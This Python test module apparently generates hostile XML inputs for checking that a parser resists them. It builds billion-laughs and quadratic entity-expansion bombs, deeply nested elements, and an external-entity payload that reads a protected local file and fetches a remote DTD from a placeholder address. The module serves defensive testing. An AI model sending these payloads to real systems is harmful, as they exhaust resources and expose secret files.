"""What is dangerous in XML whatever the format around it."""

from tests.faults.hostile.case import WORD, Scale

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def laughing(root: str) -> bytes:
    """Ten words, ten times, ten times...: 10^9 of them."""
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "{WORD} ">{LAUGHS}]>{root % "&l9;"}'.encode()


def quadratic(root: str, times: int = 20_000) -> bytes:
    """One long entity, named again and again."""
    return f'<!DOCTYPE x [<!ENTITY a "{WORD * 2_000}">]>{root % ("&a;" * times)}'.encode()


def external(root: str, scale: Scale) -> bytes:
    """Entities, parameters and a definition that lie outside, one of them the file that nobody may read."""
    secret = scale.secret.as_uri()
    declared = f'<!ENTITY s SYSTEM "{secret}"><!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;'
    return f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{secret}" [{declared}]>{root % "&s;"}'.encode()


def nested(name: str, inside: str, deep: int = 100_000) -> str:
    return f"<{name}>" * deep + inside + f"</{name}>" * deep
